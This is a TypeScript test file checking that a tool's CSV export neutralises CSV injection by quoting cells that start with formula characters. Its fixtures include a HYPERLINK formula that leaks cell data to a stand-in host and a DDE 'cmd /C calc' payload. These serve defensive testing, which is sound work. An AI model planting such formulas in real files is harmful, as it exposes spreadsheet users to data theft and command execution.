import { describe, expect, it } from 'vitest';
import { formatReport, scanTexts, type Report } from '../src/index.js';
import { sampleReport } from './helpers/sample-report.js';

const BODY = 'France will not accept any interference in its elections, the foreign minister said on Wednesday. '
  + 'He warned that retaliatory measures would be taken when necessary against any state that tried.';

/** RFC 4180 rows and fields, enough for the tests: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      (row = []), (cell = ''), i++;
    } else cell += ch;
  }
  return rows;
}

describe('--format csv guards against CSV injection (OWASP)', () => {
  it('a title, an article id or a passage a spreadsheet would run as a formula gets a leading quote', () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")';
    const report = scanTexts([
      { id: '@sum.txt', path: '@sum.txt', text: `${hyperlink}\n\n${BODY}` },
      { id: 'plain.txt', path: 'plain.txt', text: `An ordinary title\n\n${BODY}` },
    ]);
    const rows = parseCsv(formatReport(report, 'csv'));
    expect(rows[0]).toEqual(['cluster', 'kind', 'similarity', 'article', 'start', 'end', 'chars', 'title', 'text']);
    const evil = rows.find((r) => r[3] === "'@sum.txt")!;
    expect(evil).toBeDefined();
    expect(evil[7]).toBe(`'${hyperlink}`);
    const plain = rows.find((r) => r[3] === 'plain.txt')!;
    expect(plain[7]).toBe('An ordinary title');
    expect(plain[8]).toBe(evil[8]);
    expect(plain[8].startsWith('France will not accept')).toBe(true);
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('a text cell starting with %j is prefixed; the rest of it is kept', (start) => {
    const base = sampleReport();
    const text = `${start}cmd|' /C calc'!A0, then more words`;
    const report = { ...base, clusters: [{ ...base.clusters[2], members: base.clusters[2].members.map((m) => ({ ...m, text })) }] } as Report;
    const rows = parseCsv(formatReport(report, 'csv'));
    expect(rows[1][8]).toBe(`'${text}`);
    expect(rows[2][8]).toBe(`'${text}`);
  });

  it('numbers and ordinary text are written as they are', () => {
    const rows = parseCsv(formatReport(sampleReport(), 'csv'));
    for (const row of rows.slice(1)) {
      expect(row[2]).toMatch(/^\d+(\.\d+)?$/);
      expect(row[4]).toMatch(/^\d+$/);
      for (const cell of row) expect(cell.startsWith("'")).toBe(false);
    }
  });
});
